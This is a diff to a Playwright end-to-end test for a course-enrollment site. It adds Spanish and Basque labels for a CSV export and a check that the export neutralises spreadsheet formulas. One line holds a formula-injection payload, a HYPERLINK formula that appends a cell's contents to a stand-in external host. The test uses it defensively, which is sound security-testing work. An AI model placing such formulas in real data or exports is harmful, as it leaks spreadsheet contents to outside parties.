@@ -50,6 +50,7 @@ const T = {
     abandoned: 'Abandonada',
     yes: 'Sí',
     xlsx: 'Exportar Excel',
+    csv: 'Exportar CSV',
     mail: 'Escribir a todos',
     subject: 'Asunto',
     body: 'Mensaje',
@@ -97,6 +98,7 @@ const T = {
     abandoned: 'Utzita',
     yes: 'Bai',
     xlsx: 'Esportatu Excel',
+    csv: 'Esportatu CSV',
     mail: 'Idatzi guztiei',
     subject: 'Gaia',
     body: 'Mezuaren testua',
@@ -258,11 +260,13 @@ for (const lang of LANGS) {
     await expect(memberPage.getByRole('heading', { level: 1, name: a.ok })).toBeVisible();
     await memberContext.close();
 
-    // A second person fills the same group's waiting list (through the API, with the form answered).
+    // A second person fills the same group's waiting list (through the API, with the form answered
+    // by a formula: the exports must hand it to the office's spreadsheet as text).
     const other = await registerByApi(page.request, { firstName: 'Itsaso', surname: `Zubia ${stamp}` });
+    const formula = '=HYPERLINK("http://x.example/?"&C2,"Gorro azul")';
     const form = stored.signup_form_data.map((f) => ({
       ...f,
-      inputdata: f.type === 'checkbox' ? true : f.type === 'file' ? null : 'Gorro azul',
+      inputdata: f.type === 'checkbox' ? true : f.type === 'file' ? null : `${formula}\nGracias`,
     }));
     const waiting = await page.request.post('/api/v2/enroll/do_enroll/', {
       headers: bearer(other.token),
@@ -302,6 +306,14 @@ for (const lang of LANGS) {
     const xlsx = await fs.promises.readFile((await download.path())!);
     expect(xlsx.subarray(0, 2).toString('latin1')).toBe('PK');
     expect(xlsx.length).toBeGreaterThan(1000);
+    // The CSV export writes the answer quoted, behind the apostrophe that makes it text.
+    const csvDownload = page.waitForEvent('download');
+    await page.getByRole('button', { name: t.csv }).click();
+    const csvFile = await csvDownload;
+    expect(csvFile.suggestedFilename()).toBe(`inscripciones-${course.slug_es}.csv`);
+    const csv = (await fs.promises.readFile((await csvFile.path())!)).toString('utf8');
+    expect(csv).toContain(`"'${formula.replaceAll('"', '""')}\nGracias"`);
+    expect(csv).not.toMatch(/(^|,|\n)=HYPERLINK/);
 
     // Mail everyone on the list: by default pending, seated and waiting, so only the promoted person.
     await page.getByRole('button', { name: t.mail }).click();
